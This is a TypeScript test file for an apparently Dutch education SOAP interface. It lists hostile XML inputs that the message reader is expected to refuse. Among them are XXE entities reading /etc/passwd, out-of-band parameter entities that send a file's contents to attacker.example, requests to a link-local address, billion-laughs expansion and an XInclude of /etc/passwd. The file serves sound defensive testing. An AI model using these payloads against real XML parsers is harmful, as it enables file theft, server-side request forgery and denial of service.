/**
 * Hostile XML around and inside a signed message: refused by the reader, before anything is looked up or expanded.
 * Source: edukoppeling §3.6; EK-24…EK-29, EK-41.
 */
import type { FaultCode } from '../../../src/edukoppeling/faults.ts';
import { attack, type Message, replace, type Table } from '../attack.ts';
import { atEndOf } from '../parts.ts';

const DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>';
const ROOT = '<soap:Envelope';
type Change = (base: string) => Message;

const family = (code: FaultCode, rule: string, cases: readonly (readonly [string, Change])[]): Table =>
  cases.map(([title, change]) => attack(title, code, rule, change));

/** A DTD before the root, and what it would do in the value of a field. */
const dtd =
  (declaration: string, use = ''): Change =>
  (base) => {
    const text = replace(base, ROOT, `${declaration}${ROOT}`);
    return use === '' ? text : replace(text, '>onbekend<', `>${use}<`);
  };
const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');

const dtds = family('VB-F03', 'EK-26', [
  ['an empty DTD', dtd('<!DOCTYPE soap:Envelope>')],
  ['an internal entity', dtd('<!DOCTYPE x [<!ENTITY e "vervalst">]>', '&e;')],
  [
    'an external entity that reads a file',
    dtd('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', '&e;'),
  ],
  ['an external entity over http', dtd('<!DOCTYPE x [<!ENTITY e SYSTEM "http://169.254.0.1/">]>', '&e;')],
  [
    'an external entity with a public name',
    dtd('<!DOCTYPE x [<!ENTITY e PUBLIC "x" "http://attacker.example/">]>', '&e;'),
  ],
  ['a parameter entity', dtd('<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>')],
  [
    'parameter entities that send a file away',
    dtd(
      '<!DOCTYPE x [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % p "<!ENTITY &#37; s SYSTEM \'http://attacker.example/?%f;\'>">%p;%s;]>',
    ),
  ],
  ['an external DTD', dtd('<!DOCTYPE soap:Envelope SYSTEM "http://attacker.example/e.dtd">')],
  [
    'an external DTD with a public name',
    dtd('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/x.dtd">'),
  ],
  ['a billion laughs', dtd(`<!DOCTYPE x [<!ENTITY l0 "lol">${laughs}]>`, '&l9;')],
  ['quadratic blow-up', dtd(`<!DOCTYPE x [<!ENTITY q "${'x'.repeat(50_000)}">]>`, '&q;'.repeat(1000))],
  ['an entity that holds itself', dtd('<!DOCTYPE x [<!ENTITY e "&e;">]>', '&e;')],
  ['an attribute by default', dtd('<!DOCTYPE x [<!ATTLIST soap:Body wsu:Id CDATA "id-Body">]>')],
  ['an attribute declared as an ID', dtd('<!DOCTYPE x [<!ATTLIST vb:brin x ID #IMPLIED>]>')],
  ['a notation', dtd('<!DOCTYPE x [<!NOTATION n SYSTEM "x">]>')],
  ['a DTD after a comment', dtd('<!-- x --><!DOCTYPE x>')],
  ['a DTD that does not end', dtd('<!DOCTYPE x [')],
]);

const instructions = family('VB-F03', 'EK-26', [
  ['a processing instruction before the root', (base) => replace(base, ROOT, `<?x y?>${ROOT}`)],
  [
    'a stylesheet before the root',
    (base) =>
      replace(base, ROOT, `<?xml-stylesheet href="http://attacker.example/x.xsl" type="text/xsl"?>${ROOT}`),
  ],
  [
    'a processing instruction in the Header',
    (base) => replace(base, '<soap:Header>', '<soap:Header><?x y?>'),
  ],
  ['a processing instruction inside a value', (base) => replace(base, '>onbekend<', '>on<?x y?>bekend<')],
  [
    'a processing instruction inside SignatureValue',
    (base) => base.replace(/(<ds:SignatureValue[^>]*>)/, '$1<?x?>'),
  ],
  [
    'a processing instruction inside DigestValue',
    (base) => replace(base, '<ds:DigestValue>', '<ds:DigestValue><?x?>'),
  ],
  [
    'a processing instruction in the token',
    (base) => base.replace(/(<wsse:BinarySecurityToken[^>]*>)/, '$1<?x?>'),
  ],
  ['a processing instruction after the root', (base) => `${base}<?x y?>`],
  ['an XML declaration that is not first', (base) => ` ${base}`],
  ['an XML declaration inside a value', (base) => replace(base, '>onbekend<', `>${DECLARATION}<`)],
  ['two XML declarations', (base) => DECLARATION + base],
  ['PHP', (base) => replace(base, '>onbekend<', '><?php phpinfo(); ?><')],
]);

const declared =
  (declaration: string): Change =>
  (base) =>
    replace(base, DECLARATION, declaration);
const bytesIn =
  (hex: string): Change =>
  (base) => {
    const [before = '', after = ''] = base.split('onbekend');
    return Buffer.concat([Buffer.from(before), Buffer.from(hex, 'hex'), Buffer.from(after)]);
  };
const utf16 = (base: string, bigEndian: boolean) => {
  const bytes = Buffer.from(base.replace('UTF-8', 'UTF-16'), 'utf16le');
  return bigEndian ? bytes.swap16() : bytes;
};

const encodings = family('VB-F04', 'EK-28', [
  [
    'UTF-16 with a byte order mark, little end first',
    (base) => Buffer.concat([Buffer.from('fffe', 'hex'), utf16(base, false)]),
  ],
  [
    'UTF-16 with a byte order mark, big end first',
    (base) => Buffer.concat([Buffer.from('feff', 'hex'), utf16(base, true)]),
  ],
  ['UTF-16 without a byte order mark, little end first', (base) => utf16(base, false)],
  ['UTF-16 without a byte order mark, big end first', (base) => utf16(base, true)],
  ['UTF-32', (base) => Buffer.from(Uint32Array.from(base, (letter) => letter.charCodeAt(0)).buffer)],
  ['UTF-16 in the declaration only', declared('<?xml version="1.0" encoding="UTF-16"?>')],
  ['UTF-7 in the declaration', declared('<?xml version="1.0" encoding="UTF-7"?>')],
  ['ISO 8859-1 in the declaration', declared('<?xml version="1.0" encoding="ISO-8859-1"?>')],
  ['Windows-1252 in the declaration', declared('<?xml version="1.0" encoding="windows-1252"?>')],
  ['US-ASCII in the declaration', declared('<?xml version="1.0" encoding="US-ASCII"?>')],
  ['EBCDIC in the declaration', declared('<?xml version="1.0" encoding="IBM037"?>')],
  ['CESU-8 in the declaration', declared('<?xml version="1.0" encoding="CESU-8"?>')],
  ['a letter of ISO 8859-1', bytesIn('e9')],
  ['a slash in two bytes', bytesIn('c0af')],
  ['a less-than sign in two bytes', bytesIn('c0bc')],
  ['a less-than sign in three bytes', bytesIn('e080bc')],
  ['NUL in two bytes', bytesIn('c080')],
  ['a surrogate in three bytes', bytesIn('eda080')],
  ['a pair of surrogates, as CESU-8 writes it', bytesIn('eda0bdedb880')],
  ['a character above the last one', bytesIn('f4908080')],
  ['a sequence of five bytes', bytesIn('f888808080')],
  ['a sequence that is cut off', bytesIn('e282')],
  ['a continuation without a start', bytesIn('80')],
  ['a byte that UTF-8 does not have', bytesIn('ff')],
]);

const charset = (title: string, value: string) =>
  attack(`${title} in Content-Type`, 'VB-F04', 'EK-28', (base) => base, {
    http: { soapAction: '""', charset: value },
  });
const charsets: Table = [
  charset('ISO 8859-1', 'iso-8859-1'),
  charset('UTF-16', 'utf-16'),
  charset('UTF-7', 'utf-7'),
  charset('an empty charset', ''),
  charset('a longer name than UTF-8', 'utf-8-x'),
];

const value =
  (text: string): Change =>
  (base) =>
    replace(base, '>onbekend<', `>${text}<`);
const onBody =
  (attributes: string): Change =>
  (base) =>
    replace(base, '<soap:Body ', `<soap:Body ${attributes} `);
const field =
  (text: string): Change =>
  (base) =>
    replace(base, '<vb:school>', `${text}<vb:school>`);

const malformed = family('VB-F03', 'EK-25', [
  ['nothing', () => ''],
  ['only a byte order mark', () => Buffer.from('efbbbf', 'hex')],
  ['two byte order marks', (base) => `\ufeff\ufeff${base}`],
  ['XML 1.1', declared('<?xml version="1.1" encoding="UTF-8"?>')],
  ['XML 2.0', declared('<?xml version="2.0" encoding="UTF-8"?>')],
  ['a declaration without a version', declared('<?xml encoding="UTF-8"?>')],
  ['a declaration with an attribute of its own', declared('<?xml version="1.0" encoding="UTF-8" x="y"?>')],
  ['a declaration that does not end', (base) => replace(base, '?>', ' ')],
  ['an encoding with a blank', declared('<?xml version="1.0" encoding=" UTF-8"?>')],
  ['text before the root', (base) => base.replace(ROOT, () => `x${ROOT}`)],
  ['text after the root', (base) => `${base}x`],
  ['a second root', (base) => `${base}<x/>`],
  ['the whole message twice', (base) => base + base.slice(DECLARATION.length)],
  ['NUL after the root', (base) => `${base}\0`],
  ['CDATA outside the root', (base) => `${base}<![CDATA[x]]>`],
  ['a reference outside the root', (base) => `${base}&#32;`],
  ['the message cut off', (base) => base.slice(0, -1)],
  ['the message cut in the middle', (base) => base.slice(0, base.length / 2)],
  ['an entity that nobody declared', value('&vervalst;')],
  ['a named entity of HTML', value('&nbsp;')],
  ['a reference without a semicolon', value('&amp')],
  ['an ampersand alone', value('a & b')],
  ['NUL', value('\0')],
  ['NUL as a reference', value('&#0;')],
  ['a control character', value('\u0008')],
  ['a control character as a reference', value('&#x1B;')],
  ['an escape sequence for a terminal', value('\u001b[31m')],
  ['a surrogate as a reference', value('&#xD83D;')],
  ['a pair of surrogates as references', value('&#xD83D;&#xDE00;')],
  ['U+FFFF', value('\uffff')],
  ['U+FFFE as a reference', value('&#xFFFE;')],
  ['a reference above the last character', value('&#x110000;')],
  ['a reference of a thousand digits', value(`&#${'0'.repeat(1000)}65;`)],
  ['a negative reference', value('&#-65;')],
  [']]> in a value', value('a]]>b')],
  ['a CDATA section that does not end', value('<![CDATA[x')],
  ['a CDATA section in a CDATA section', value('<![CDATA[<![CDATA[x]]>]]>')],
  ['a comment that does not end', value('<!-- x')],
  ['two hyphens in a comment', value('<!-- -- -->')],
  ['a comment that ends in three hyphens', value('<!-- x --->')],
  ['a conditional section', value('<![INCLUDE[x]]>')],
  ['an element declaration inside', value('<!ELEMENT x ANY>')],
  ['elements that overlap', field('<vb:a><vb:b></vb:a></vb:b>')],
  ['an end tag too many', field('</vb:x>')],
  ['an end tag in another case', field('<vb:a></vb:A>')],
  [
    'an end tag of the same name through another prefix',
    field('<a:x xmlns:a="urn:a" xmlns:b="urn:a"></b:x>'),
  ],
  ['an end tag with an attribute', field('<vb:a></vb:a x="y">')],
  ['a start tag in a start tag', field('<vb:a <vb:b/>/>')],
  ['an attribute without quotation marks', field('<vb:a b=c/>')],
  ['an attribute without a value', field('<vb:a b/>')],
  ['a less-than sign in an attribute', field('<vb:a b="<"/>')],
  ['no blank between attributes', field('<vb:a b="1"c="2"/>')],
  ['an attribute twice', field('<vb:a b="1" b="2"/>')],
  [
    'an attribute twice through two prefixes',
    field('<vb:a xmlns:x="urn:x" xmlns:y="urn:x" x:b="1" y:b="2"/>'),
  ],
  [
    'wsu:Id twice through two prefixes',
    (base) => {
      const wsu = /xmlns:wsu="([^"]*)"/.exec(base)?.[1] ?? '';
      return onBody(`xmlns:u="${wsu}" u:Id="id-Body"`)(base);
    },
  ],
  ['a namespace declared twice', field('<vb:a xmlns:x="urn:x" xmlns:x="urn:y"/>')],
  ['the default namespace declared twice', field('<vb:a xmlns="urn:x" xmlns="urn:y"/>')],
  ['a prefix that nobody declared', field('<x:a/>')],
  ['a prefix that nobody declared, on an attribute', field('<vb:a x:b="1"/>')],
  ['a prefix undeclared as in XML 1.1', onBody('xmlns:vb=""')],
  ['the prefix xml for another namespace', field('<vb:a xmlns:xml="urn:x"/>')],
  [
    'another prefix for the namespace of xml',
    field('<vb:a xmlns:x="http://www.w3.org/XML/1998/namespace"/>'),
  ],
  ['the namespace of xml as the default', field('<a xmlns="http://www.w3.org/XML/1998/namespace"/>')],
  ['the prefix xmlns declared', field('<vb:a xmlns:xmlns="urn:x"/>')],
  ['the prefix xmlns used', field('<xmlns:a/>')],
  ['an element named xmlns', field('<xmlns/>')],
  ['another prefix for the namespace of xmlns', field('<vb:a xmlns:x="http://www.w3.org/2000/xmlns/"/>')],
  ['a namespace with an ampersand', field('<vb:a xmlns:x="urn:x&amp;y"/>')],
  ['a namespace with a quotation mark', field('<vb:a xmlns:x="urn:&quot;"/>')],
  ['a name with two colons', field('<vb:a:b/>')],
  ['a name that begins with a colon', field('<:a/>')],
  ['a name that ends in a colon', field('<vb:/>')],
  ['a name that begins with a digit', field('<vb:1/>')],
  ['a name that begins with a hyphen', field('<vb:-a/>')],
  ['a name with a multiplication sign', field('<vb:a×b/>')],
  ['a name with a Greek question mark', field('<vb:a\u037eb/>')],
  ['a blank before the name', field('< vb:a/>')],
  ['a no-break space between attributes', field('<vb:a\u00a0b="1"/>')],
  ['a NEL between attributes', field('<vb:a\u0085b="1"/>')],
]);

const deep = (depth: number) => '<vb:x>'.repeat(depth) + '</vb:x>'.repeat(depth);
const many = (count: number, write: (i: number) => string) =>
  Array.from({ length: count }, (_, i) => write(i)).join('');

const limits = family('VB-F03', 'EK-41', [
  ['65 elements in one another', field(deep(63))],
  ['100,000 elements in one another', field(deep(100_000))],
  ['100,000 start tags and no end', (base) => replace(base, '<vb:school>', '<vb:x>'.repeat(100_000))],
  ['257 attributes', field(`<vb:a ${many(257, (i) => `b${i}="" `)}/>`)],
  ['257 namespaces on one element', field(`<vb:a ${many(257, (i) => `xmlns:n${i}="urn:${i}" `)}/>`)],
  [
    '4,200 namespaces in one document',
    field(many(420, (i) => `<vb:a ${many(10, (j) => `xmlns:n${i % 20}x${j}="urn:${i}" `)}/>`)),
  ],
  ['2,100 different names', field(many(2100, (i) => `<vb:a${i}/>`))],
  ['2,100 different attributes', field(many(21, (i) => `<vb:a ${many(100, (j) => `b${i}x${j}="" `)}/>`))],
  ['a name of 300 bytes', field(`<vb:${'a'.repeat(300)}/>`)],
  ['an attribute name of 300 bytes', field(`<vb:a ${'b'.repeat(300)}=""/>`)],
  ['a name of a million bytes', field(`<vb:${'a'.repeat(1_000_000)}/>`)],
  ['a prefix of 300 bytes', field(`<${'p'.repeat(300)}:a/>`)],
  ['one byte over the size', (base) => base + ' '.repeat(5 * 1024 * 1024 + 1 - Buffer.byteLength(base))],
]);

const structure: Table = [
  attack('SOAP 1.2', 'VB-F01', 'EK-24', (base) =>
    base.replaceAll('http://schemas.xmlsoap.org/soap/envelope/', 'http://www.w3.org/2003/05/soap-envelope'),
  ),
  attack('an envelope of no namespace', 'VB-F01', 'EK-24', () => '<Envelope><Body><x/></Body></Envelope>'),
  attack('another root', 'VB-F03', 'EK-25', (base) => `<x>${base.slice(DECLARATION.length)}</x>`),
  attack('text in the Envelope', 'VB-F03', 'EK-25', (base) => atEndOf(base, 'soap:Envelope', 'x')),
  attack('text in the Header', 'VB-F03', 'EK-25', (base) => atEndOf(base, 'soap:Header', 'x')),
  attack('text in the Body', 'VB-F03', 'EK-25', (base) => atEndOf(base, 'soap:Body', 'x')),
  attack('CDATA in the Body', 'VB-F03', 'EK-25', (base) => atEndOf(base, 'soap:Body', '<![CDATA[x]]>')),
  attack('two payloads', 'VB-F03', 'EK-27', (base) => atEndOf(base, 'soap:Body', '<vb:x xmlns:vb="urn:x"/>')),
  attack('an empty Body', 'VB-F03', 'EK-27', (base) =>
    base.replace(/(<soap:Body [^>]*>).*(<\/soap:Body>)/s, '$1$2'),
  ),
  attack('no Body', 'VB-F03', 'WW003', (base) => base.replace(/<soap:Body .*<\/soap:Body>/s, '')),
  attack('two Headers', 'VB-F03', 'WW003', (base) =>
    replace(base, '<soap:Header>', '<soap:Header></soap:Header><soap:Header>'),
  ),
  attack('a Header after the Body', 'VB-F03', 'WW003', (base) =>
    atEndOf(base, 'soap:Envelope', '<soap:Header></soap:Header>'),
  ),
  attack('an element after the Body', 'VB-F03', 'WW003', (base) => atEndOf(base, 'soap:Envelope', '<x/>')),
  attack('a Body of another namespace', 'VB-F03', 'WW003', (base) =>
    base.replace(
      '<soap:Body xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"',
      '<soap:Body xmlns:soap="urn:x"',
    ),
  ),
  attack('no Header', 'VB-F06-To', 'EK-42', (base) => base.replace(/<soap:Header>.*<\/soap:Header>/s, '')),
  attack('a namespace of WS-Addressing rebound on the Header', 'VB-F05', 'EK-30', (base) =>
    replace(base, '<wsa:To xmlns:wsa="http://www.w3.org/2005/08/addressing"', '<wsa:To xmlns:wsa="urn:x"'),
  ),
  attack('the namespace of the payload rebound', 'VB-F18', 'WB013', (base) =>
    replace(base, 'xmlns:vb="urn:verzuimbroker:school:v1"', 'xmlns:vb="urn:x"'),
  ),
  attack('the namespace of one field rebound', 'VB-F18', 'WB013', (base) =>
    replace(base, '<vb:brin>', '<vb:brin xmlns:vb="urn:x">'),
  ),
  attack('a default namespace that a field without prefix takes', 'VB-F18', 'WB013', (base) =>
    base.replace('<vb:brin>', '<brin xmlns="urn:verzuimbroker:school:v1">').replace('</vb:brin>', '</brin>'),
  ),
  attack('an attribute of xml: on the payload', 'VB-F18', 'WB013', (base) =>
    replace(base, '<vb:brin>', '<vb:brin xml:space="preserve">'),
  ),
  attack('an xsi:nil on a field', 'VB-F18', 'WB013', (base) =>
    replace(
      base,
      '<vb:brin>',
      '<vb:brin xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:nil="true">',
    ),
  ),
  attack('an XInclude in the payload', 'VB-F18', 'WB013', (base) =>
    replace(
      base,
      '<vb:school>',
      '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/><vb:school>',
    ),
  ),
  attack('a carriage return as a reference in a value', 'VB-F18', 'WB013', (base) =>
    replace(base, '>onbekend<', '>onbekend&#13;<'),
  ),
  attack('white space between two fields', 'VB-F18', 'WB013', (base) =>
    replace(base, '<vb:school>', '\n<vb:school>'),
  ),
];

export const XML: Table = [
  ...dtds,
  ...instructions,
  ...encodings,
  ...charsets,
  ...malformed,
  ...limits,
  ...structure,
];
